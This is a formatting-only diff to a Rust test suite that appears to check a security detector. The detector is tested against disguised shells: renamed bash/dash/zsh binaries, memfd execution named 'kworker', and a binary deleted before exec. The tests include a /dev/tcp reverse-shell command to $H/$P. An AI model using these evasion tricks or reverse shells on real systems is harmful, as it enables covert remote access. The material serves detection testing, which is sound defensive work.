@@ -32,9 +32,15 @@ fn without_file(lab: &Lab<'_>, mut peer: Peer, path: impl Fn(&str) -> bool) -> R
 
 pub fn cases() -> Vec<Case> {
     vec![
-        Case::new("identity::renamed_bash", &["bash"], |lab| disguised(lab, WIRED, &lab.copy("bash", "kworker-flush")?)),
-        Case::new("identity::renamed_dash", &["dash"], |lab| disguised(lab, WIRED, &lab.copy("dash", "logrotate")?)),
-        Case::new("identity::renamed_zsh", &["zsh"], |lab| disguised(lab, WIRED, &lab.copy("zsh", "gunicorn")?)),
+        Case::new("identity::renamed_bash", &["bash"], |lab| {
+            disguised(lab, WIRED, &lab.copy("bash", "kworker-flush")?)
+        }),
+        Case::new("identity::renamed_dash", &["dash"], |lab| {
+            disguised(lab, WIRED, &lab.copy("dash", "logrotate")?)
+        }),
+        Case::new("identity::renamed_zsh", &["zsh"], |lab| {
+            disguised(lab, WIRED, &lab.copy("zsh", "gunicorn")?)
+        }),
         Case::new("identity::named_like_a_harmless_program", &["bash"], |lab| {
             disguised(lab, WIRED, &lab.copy("bash", "cat")?)
         }),
@@ -90,14 +96,27 @@ pub fn cases() -> Vec<Case> {
             fs::copy("/bin/dash", &copy)?;
             let peer = lab.connected(WIRED, &copy)?;
             // Too long to be read as a whole is allowed, if the finding says so.
-            let finding = without_file(lab, peer, |path| path.ends_with("/a-directory-with-a-long-name-0123456789/sh"))?;
-            let whole = finding.processes()?.first().is_some_and(|first| first.path == copy.to_string_lossy());
-            let truncated = finding.property("execution").and_then(|execution| execution.get("pathTruncated"));
-            ensure!(whole || truncated == Some(&true.into()), "a part of the path is missing: {finding}");
+            let finding = without_file(lab, peer, |path| {
+                path.ends_with("/a-directory-with-a-long-name-0123456789/sh")
+            })?;
+            let whole = finding
+                .processes()?
+                .first()
+                .is_some_and(|first| first.path == copy.to_string_lossy());
+            let truncated = finding
+                .property("execution")
+                .and_then(|execution| execution.get("pathTruncated"));
+            ensure!(
+                whole || truncated == Some(&true.into()),
+                "a part of the path is missing: {finding}"
+            );
             Ok(())
         }),
         Case::new("identity::memfd_execveat", &["gcc"], |lab| {
-            let peer = lab.connected("exec $X $H $P kworker /bin/bash --norc", &lab.programs.c("memfd.c", &[])?)?;
+            let peer = lab.connected(
+                "exec $X $H $P kworker /bin/bash --norc",
+                &lab.programs.c("memfd.c", &[])?,
+            )?;
             without_file(lab, peer, |path| path.contains("memfd:kworker"))?;
             Ok(())
         }),
@@ -113,7 +132,10 @@ s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
         Case::new("identity::deleted_before_exec", &["gcc", "bash"], |lab| {
             let copy = lab.copy("bash", "once")?;
             let launcher = lab.programs.c("deleted.c", &[])?;
-            let script = format!("exec 5<>/dev/tcp/$H/$P; exec {} $X --norc <&5 >&5 2>&5", launcher.display());
+            let script = format!(
+                "exec 5<>/dev/tcp/$H/$P; exec {} $X --norc <&5 >&5 2>&5",
+                launcher.display()
+            );
             let peer = lab.connected(&script, &copy)?;
             without_file(lab, peer, |path| path == copy.to_string_lossy())?;
             ensure!(!copy.exists(), "the file is still there");
